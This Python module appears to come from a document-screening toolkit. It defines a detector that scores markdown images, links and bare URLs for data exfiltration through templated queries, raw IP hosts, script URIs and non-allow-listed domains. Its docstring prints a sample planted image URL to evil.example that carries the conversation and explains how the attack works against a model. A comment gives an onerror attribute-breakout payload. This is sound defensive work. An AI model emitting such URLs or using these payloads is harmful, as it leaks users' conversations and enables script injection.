"""Exfiltration: images and links whose URLs would carry the conversation out.

A planted ``![](https://evil.example/log?q={conversation})`` makes the model write an image whose
URL holds whatever it was told to put there, and the user's renderer fetches it without a click.
Scored by what the URL can carry and where it goes: templated or data-bearing queries, raw IP
hosts, script URIs, and hosts outside the collection's allow-list (when one is configured).
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Iterator, Mapping
from urllib.parse import parse_qsl, unquote, urlsplit

from guards.base import Finding, Verdict
from guards.poisoning.base import ScreenDocument, TextDetector
from guards.poisoning.urls import find_urls

# {var}, {{var}}, ${var}, $var, [DATA], <secret>, and their percent-encoded forms.
_TEMPLATE = re.compile(
    r"\{\{?[^}]{0,60}\}|\$\{?[A-Za-z_]\w*|\[[A-Z][A-Z_ ]{1,40}\]|<[A-Za-z_ ]{2,40}>|%7B|%24%7B|%5B[A-Z]", re.IGNORECASE
)
_DATA_KEYS = re.compile(
    r"^(?:q|d|data|payload|secret|token|key|pwd|pass(?:word)?|session|conv(?:ersation)?|chat|history|msg"
    r"|message|exfil|info|user(?:name)?|email|content|text|prompt|summary|context|memory|cookie|ssn|card)$",
    re.IGNORECASE,
)
# A quote then an event handler: the "URL" breaks out of the src/href attribute the renderer writes it
# into (``![]("onerror="alert(1))``) and runs script, whatever its scheme.
_ATTRIBUTE_BREAKOUT = re.compile(r"[\"'`][^\n]{0,40}?\bon[a-z]{3,20}\s*=", re.IGNORECASE)
_ENCODED_VALUE = re.compile(r"^[A-Za-z0-9+/=_-]{24,}$")
# Weights: (image, link, bare URL). An image is fetched by the renderer with no click at all.
_WEIGHTS = {
    "script_uri": (0.9, 0.9, 0.5),
    "templated_url": (0.95, 0.9, 0.5),
    "raw_ip_host": (0.85, 0.7, 0.3),
    "data_bearing_query": (0.85, 0.5, 0.15),
    "non_allowlisted_domain": (0.75, 0.3, 0.05),
}
_KIND_INDEX = {"image": 0, "link": 1, "bare": 2}
_URL_MARKERS = ("://", "](", "]:", "src=", "SRC=", "href=", "HREF=", "javascript:", "data:")
_FETCHED = ("http", "https", "ftp", "javascript", "vbscript", "data", "")
"""Schemes a renderer fetches or runs (``""``: protocol-relative ``//host``); ``cid:``, ``mailto:``... are not."""


def _public_ip(host: str) -> bool:
    try:
        address = ipaddress.ip_address(host.strip("[]"))
    except ValueError:
        return False
    return not (address.is_private or address.is_loopback or address.is_link_local or address.is_unspecified)


def _data_bearing(query: str) -> bool:
    for key, value in parse_qsl(query, keep_blank_values=True):
        if (_DATA_KEYS.match(key) and len(value) >= 12) or len(value) >= 64 or _ENCODED_VALUE.match(value):
            return True
    return False


class ExfiltrationDetector(TextDetector):
    """Scores every image, link and bare URL in the text (and raw markup) by what it could carry."""

    name = "exfiltration"
    version = "2"

    def __init__(self, allowed_domains: Mapping[str, frozenset[str]] | None = None) -> None:
        """``allowed_domains``: per collection (``"*"``: every other collection); empty: no allow-list."""
        self.allowed_domains = dict(allowed_domains or {})

    def inspect_document(self, doc: ScreenDocument) -> Verdict:
        text = doc.text
        if doc.raw is not None and doc.mime_type.startswith(("text/html", "application/xhtml")):
            text += "\n" + doc.raw.decode("utf-8", errors="replace")
        return self.verdict(self._find(text, self._allowed(doc.collection)))

    def find(self, text: str) -> Iterator[Finding]:
        return self._find(text, self._allowed(""))

    def _allowed(self, collection: str) -> frozenset[str]:
        return self.allowed_domains.get(collection, self.allowed_domains.get("*", frozenset()))

    def _find(self, text: str, allowed: frozenset[str]) -> Iterator[Finding]:
        if not any(marker in text for marker in _URL_MARKERS):
            return
        best: dict[str, Finding] = {}
        for found in find_urls(text):
            for reason in self.reasons(found.url, allowed):
                score = _WEIGHTS[reason][_KIND_INDEX[found.kind]]
                if reason not in best or score > best[reason].score:
                    evidence = f"{found.kind}: {found.url[:140]}"
                    best[reason] = Finding(self.name, reason, score, found.start, found.end, evidence)
        yield from best.values()

    @staticmethod
    def reasons(url: str, allowed: frozenset[str]) -> list[str]:
        """Why a URL could exfiltrate data (an empty list for an innocent one)."""
        if "=" in url and _ATTRIBUTE_BREAKOUT.search(url):
            return ["script_uri"]
        scheme = url.split(":", 1)[0].lower() if ":" in url.split("/", 1)[0] else ""
        if scheme not in _FETCHED or (not scheme and not url.startswith("//")):
            return []
        if scheme in ("javascript", "vbscript") or (scheme == "data" and not url.lower().startswith("data:image/")):
            return ["script_uri"]
        try:
            parts = urlsplit(url)
        except ValueError:
            return []
        host = (parts.hostname or "").lower()
        out: list[str] = []
        if _TEMPLATE.search(unquote(parts.path + "?" + parts.query)) or _TEMPLATE.search(parts.query):
            out.append("templated_url")
        if _public_ip(host):
            out.append("raw_ip_host")
        if parts.query and _data_bearing(parts.query):
            out.append("data_bearing_query")
        if host and allowed and not any(host == d or host.endswith("." + d) for d in allowed):
            out.append("non_allowlisted_domain")
        return out
